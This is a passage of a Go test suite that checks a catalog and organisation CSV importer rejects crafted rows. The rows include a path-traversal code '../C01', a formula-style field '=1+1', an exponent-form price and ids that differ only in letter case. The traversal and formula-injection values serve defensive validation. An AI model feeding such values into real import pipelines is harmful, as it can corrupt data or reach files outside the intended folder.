		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"c.csv 第 2 行（品目 ../C01），列 “code”：编号“../C01”含不允许的字符"},
			"catalog", "import", h.file("c.csv", "code,name,category,unit,billing,price_internet,price_extranet\n../C01,vCPU,compute,vCPU·月,allocated,40,40\n"), "--effective", "2026-01-01")
	})

	t.Run("vendor: a resource type =1+1 in the adaptations is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.refused([]string{"ad.csv 第 2 行（资源类型 =1+1），列 “resource_type”：编号“=1+1”含不允许的字符"},
			"catalog", "adapt", h.file("ad.csv", "resource_type,item_code\n=1+1,C01\n"))
	})

	t.Run("vendor: a price in exponent form is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"c.csv 第 2 行（品目 C01），列 “price_internet”：“4e1”不是非负数：请写成 1234.5 这样的普通小数"},
			"catalog", "import", h.file("c.csv", "code,name,category,unit,billing,price_internet,price_extranet\nC01,vCPU,compute,vCPU·月,allocated,4e1,40\n"), "--effective", "2026-01-01")
	})

	// ids that differ only in letter case share one statement file on a case-insensitive
	// file system (a Windows share of the statements folder)
	t.Run("department: d01 beside a stored D01 is refused", func(t *testing.T) {
		t.Parallel()
		h := newHostile(t, srv, true)
		h.refused([]string{"d.csv 第 2 行（部门 d01），列 “id”：部门 d01 与部门 D01 只有字母大小写不同"},
			"org", "import", "--departments", h.file("d.csv", "id,name,parent_id\nd01,小写财政局,\n"))
	})
	t.Run("vendor: v1 and V1 in one file are refused", func(t *testing.T) {
		t.Parallel()
		h := newHostile(t, srv, false)
		h.refused([]string{"v.csv 第 3 行（服务商 v1），列 “id”：服务商 v1 与服务商 V1 只有字母大小写不同"},
			"org", "import", "--vendors", h.file("v.csv", "id,name\nV1,甲\nv1,乙\n"))
	})
}
